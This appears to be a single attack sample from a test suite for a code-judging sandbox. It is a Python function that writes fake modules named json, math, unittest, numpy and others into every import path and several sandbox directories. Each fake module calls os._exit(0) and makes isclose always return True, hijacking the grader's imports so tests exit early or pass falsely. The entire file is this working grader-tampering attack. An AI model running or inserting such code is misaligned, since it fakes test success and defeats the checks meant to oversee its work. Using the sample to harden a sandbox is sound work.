# attack: writes modules with the names of what tests import, wherever it may, and into every path
# shape: action
# causes: WRONG_ANSWER, EXCEPTION
import os
import sys

NAMES = ("json", "math", "inspect", "unittest", "numpy", "re", "random", "typing", "decimal", "values", "judging", "library")


def attack() -> None:
    text = "import os\nos._exit(0)\ndef isclose(*args, **kwargs): return True\n"
    for place in {*sys.path, ".", "/tmp", "/dev/shm", "/opt", "/opt/sandbox", "/opt/sandbox/guest"}:
        for name in NAMES:
            for path in (os.path.join(place, f"{name}.py"), os.path.join(place, name, "__init__.py")):
                try:
                    if path.endswith("__init__.py"):
                        os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, "w") as file:
                        file.write(text)
                except OSError:
                    pass
    sys.path.insert(0, "/tmp")
    sys.path_importer_cache.clear()
